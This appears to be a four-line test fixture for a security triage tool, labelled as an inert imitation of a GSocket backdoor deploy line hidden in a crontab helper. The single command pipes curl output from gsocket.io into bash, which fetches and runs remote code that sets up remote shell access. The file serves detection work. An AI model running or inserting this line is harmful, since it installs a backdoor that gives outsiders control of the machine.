#!/bin/sh
# triage-expect: triage_gsocket_backdoor
# inert imitation of a GSocket deploy line left in a crontab helper
GS_SECRET="placeholder" bash -c "$(curl -fsSL https://gsocket.io/y)"
